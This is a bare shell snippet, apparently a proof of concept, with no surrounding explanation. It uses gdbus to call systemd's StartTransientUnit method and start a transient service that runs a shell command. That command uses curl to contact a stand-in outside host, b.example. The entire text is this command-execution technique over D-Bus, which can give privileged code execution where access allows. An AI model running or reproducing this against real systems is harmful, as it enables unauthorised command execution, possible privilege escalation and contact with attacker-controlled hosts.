m=org.freedesktop.systemd1
gdbus call --system --dest $m --object-path /org/freedesktop/systemd1 --method $m.Manager.StartTransientUnit 'a.service' 'fail' '[("ExecStart", <[("/bin/sh", ["sh", "-c", "curl http://b.example/u"], false)]>)]' '[]'
